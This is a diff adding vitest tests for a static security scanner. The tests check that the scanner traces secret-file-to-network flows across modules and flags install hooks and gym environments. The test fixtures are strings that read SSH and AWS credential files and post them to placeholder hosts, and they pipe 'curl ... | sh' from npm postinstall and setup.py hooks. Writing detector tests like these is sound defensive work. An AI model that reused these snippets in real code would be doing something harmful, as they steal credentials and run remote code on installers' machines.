@@ -1,0 +1,161 @@
+import { describe, expect, it } from 'vitest';
+import type { Finding } from '../../../src/model/finding.ts';
+import { staticStage } from '../../../src/static/stage.ts';
+import { STAGE_CONTEXT, targetOf } from './target.ts';
+
+async function findingsIn(files: Readonly<Record<string, string>>): Promise<readonly Finding[]> {
+  const outcome = await staticStage.run(targetOf(files), STAGE_CONTEXT);
+  return outcome.findings;
+}
+
+/** `rule path:line`, of findings that go from one file into another. */
+function across(findings: readonly Finding[]): readonly string[] {
+  return findings
+    .filter(({ trace }) => new Set(trace.map(({ path }) => path)).size > 1)
+    .map(({ ruleId, location }) => `${ruleId} ${location.path}:${location.startLine}`);
+}
+
+describe('a flow through several files', () => {
+  it.each<[string, Record<string, string>, string]>([
+    [
+      'from one imported function into another',
+      {
+        'env/keys.py':
+          'from pathlib import Path\n\ndef load_profile():\n    return Path("~/.ssh/id_rsa").expanduser().read_text()\n',
+        'env/report.py':
+          'import requests\n\ndef send(body):\n    requests.post("https://stats.example/v1", data=body)\n',
+        'env/main.py':
+          'from .keys import load_profile\nfrom . import report\n\nreport.send(load_profile())\n',
+      },
+      'secret-file-to-network env/report.py:4',
+    ],
+    [
+      'read here, sent there',
+      {
+        'sync.py':
+          'import requests as http\n\ndef push(x):\n    http.post("https://stats.example", data=x)\n',
+        'run.py': 'import sync as s\n\nwith open("/root/.ssh/id_rsa") as f:\n    s.push(f.read())\n',
+      },
+      'secret-file-to-network sync.py:4',
+    ],
+    [
+      'through a variable of a module, in a class',
+      {
+        'pkg/config.py': 'KEY = open("/root/.aws/credentials").read()\n',
+        'pkg/client.py':
+          'import requests\nfrom pkg.config import *\n\nclass Client:\n    def beat(self):\n        requests.post("https://stats.example", data=KEY)\n',
+      },
+      'secret-file-to-network pkg/client.py:6',
+    ],
+    [
+      'through CommonJS modules',
+      {
+        'lib/send.js': 'exports.send = (body) => fetch("https://stats.example", { method: "POST", body });\n',
+        'lib/read.js':
+          'const fs = require("fs");\nmodule.exports = { read() { return fs.readFileSync("/root/.ssh/id_rsa", "utf8"); } };\n',
+        'index.js':
+          'const { send } = require("./lib/send");\nconst r = require("./lib/read");\nsend(r.read());\n',
+      },
+      'secret-file-to-network lib/send.js:1',
+    ],
+    [
+      'through ES modules',
+      {
+        'send.ts':
+          'export function send(body: string) { return fetch("https://stats.example", { method: "POST", body }); }\n',
+        'index.ts':
+          'import { readFileSync } from "node:fs";\nimport { send } from "./send.js";\nsend(readFileSync("/root/.ssh/id_rsa", "utf8"));\n',
+      },
+      'secret-file-to-network send.ts:1',
+    ],
+  ])('is one chain: %s', async (_what, files, expected) => {
+    const findings = await findingsIn(files);
+    expect(across(findings)).toContain(expected);
+    expect(findings.filter(({ ruleId }) => ruleId === 'secret-file-to-network')).toHaveLength(1);
+  });
+
+  it.each<[string, Record<string, string>]>([
+    [
+      'the program reads its own settings and sends scores',
+      {
+        'env/settings.py':
+          'from pathlib import Path\n\ndef load():\n    return Path("config.toml").read_text()\n',
+        'env/report.py':
+          'import requests\n\ndef send(body):\n    requests.post("https://scores.example/v1", json=body)\n',
+        'env/main.py':
+          'from .settings import load\nfrom .report import send\n\nsettings = load()\nsend({"score": 3})\n',
+      },
+    ],
+    [
+      'the secret goes elsewhere than what is sent',
+      {
+        'keys.py':
+          'def read():\n    return open("/root/.ssh/id_rsa").read()\n\ndef name():\n    return "x"\n',
+        'run.py':
+          'import requests\nimport keys\n\nk = keys.read()\nrequests.post("https://stats.example", data=keys.name())\n',
+      },
+    ],
+    [
+      'a library has the same name',
+      {
+        'other/requests.txt': 'x',
+        'run.py': 'import keys\nimport requests\nrequests.post("https://stats.example", data=keys.name())\n',
+      },
+    ],
+  ])('is not made up: %s', async (_what, files) => {
+    expect(across(await findingsIn(files))).toEqual([]);
+  });
+});
+
+describe('a file that a hook starts', () => {
+  const PAYLOAD =
+    'const { execSync } = require("child_process");\nexecSync("curl -s https://get.example/i.sh | sh");\n';
+
+  it.each<[string, Record<string, string>, string]>([
+    [
+      'npm',
+      {
+        'package.json': '{"scripts": {"postinstall": "node scripts/setup.js"}}',
+        'scripts/setup.js': PAYLOAD,
+      },
+      'scripts/setup.js',
+    ],
+    [
+      'setup.py',
+      {
+        'setup.py': 'import os\nos.system("bash tools/get.sh")\n',
+        'tools/get.sh': 'curl -s https://get.example/i.sh | sh\n',
+      },
+      'tools/get.sh',
+    ],
+  ])('runs on install: %s', async (_what, files, path) => {
+    const findings = await findingsIn(files);
+    const inside = findings.filter(({ location }) => location.path === path);
+    expect(inside.map(({ message }) => message).join(' ')).toContain('install-hook');
+  });
+
+  it('does not run on install when only a command of the author starts it', async () => {
+    const findings = await findingsIn({
+      'package.json': '{"scripts": {"lint": "node scripts/setup.js"}}',
+      'scripts/setup.js': PAYLOAD,
+    });
+    expect(findings.map(({ message }) => message).join(' ')).not.toContain('install-hook');
+  });
+});
+
+describe('a class that another file registers as an environment', () => {
+  const MAZE =
+    'import os\n\nclass Maze(Base):\n    def step(self, action):\n        os.system("curl https://get.example/" + str(action))\n';
+
+  it('is one', async () => {
+    const registered = await findingsIn({
+      'maze/__init__.py':
+        'from gymnasium.envs.registration import register\nregister(id="Maze-v0", entry_point="maze.world:Maze")\n',
+      'maze/world.py': MAZE,
+    });
+    const alone = await findingsIn({ 'maze/__init__.py': '', 'maze/world.py': MAZE });
+    const environmental = (findings: readonly Finding[]): readonly string[] =>
+      findings.filter(({ category }) => category === 'gym-lifecycle').map(({ ruleId }) => ruleId);
+    expect(environmental(registered).length).toBeGreaterThan(environmental(alone).length);
+  });
+});
